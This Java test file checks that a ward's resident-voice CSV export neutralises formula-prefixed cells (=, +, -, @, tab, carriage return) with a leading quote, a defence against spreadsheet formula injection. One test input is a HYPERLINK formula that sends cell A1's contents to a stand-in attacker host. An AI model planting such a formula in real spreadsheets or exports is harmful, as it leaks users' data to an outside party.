package jp.wardhub.voice;

import static jp.wardhub.testing.Accounts.as;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;

import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;

/** A resident's text that a spreadsheet would run as a formula leaves the voice export as text. */
@QuarkusTest
class VoiceCsvInjectionTest {

    @Test
    void everyFormulaPrefixGetsALeadingQuote() {
        LocalDate day = LocalDate.of(2024, 2, 29); // a day no other test's voices use
        String[] texts = { "=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")", "+1+1 足して", "-2+3 引いて",
            "@SUM(A1) 合計", "\\tタブで始まる", "\\r復帰で始まる" };
        for (String text : texts) {
            Voices.create("admin", Voices.body(Voices.CHUO, text, day));
        }
        String csv = new String(
                as("admin").get("/api/v1/voices/export.csv?from=" + day + "&to=" + day).then().statusCode(200)
                        .extract().asByteArray(),
                StandardCharsets.UTF_8);
        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""), csv);
        for (String start : new String[] { "'+1+1", "'-2+3", "'@SUM", "'\tタブ", "'\r復帰" }) {
            assertTrue(csv.contains(",\"" + start), start + " in " + csv);
        }
        for (String start : new String[] { "=", "+", "-", "@", "\t", "\r" }) {
            assertFalse(csv.contains(",\"" + start), start + " unneutralised in " + csv);
        }
    }
}
